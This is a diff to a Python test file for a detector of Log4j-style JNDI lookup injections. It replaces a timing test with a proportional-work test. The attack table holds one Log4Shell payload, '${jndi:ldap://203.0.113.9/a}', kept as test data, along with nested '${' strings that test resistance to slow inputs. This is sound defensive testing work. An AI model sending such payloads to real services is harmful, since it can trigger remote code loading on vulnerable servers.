@@ -1,12 +1,11 @@
 """Look-ups are worked out as Log4j does."""
 
-import time
-
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from bavn.payloads.jndi import jndi_injection
+from tests.work import is_in_proportion
 
 ATTACKS = (
     ("${jndi:ldap://203.0.113.9/a}", "jndi-lookup"),
@@ -76,11 +75,8 @@ def test_no_text_makes_it_raise(value: str) -> None:
 
 
 @pytest.mark.parametrize("unit", ["${", "${${", "${a:", "}"])
-def test_a_hostile_text_of_4096_characters_takes_milliseconds(unit: str) -> None:
-    value = (unit * 4096)[:4096]
-    before = time.process_time()
-    jndi_injection(value)
-    assert time.process_time() - before < 0.2
+def test_twice_the_hostile_text_is_about_twice_the_work(unit: str) -> None:
+    assert is_in_proportion(jndi_injection, unit)
 
 
 def test_look_ups_nested_deeper_than_any_honest_one_are_reported_without_recursion() -> None:
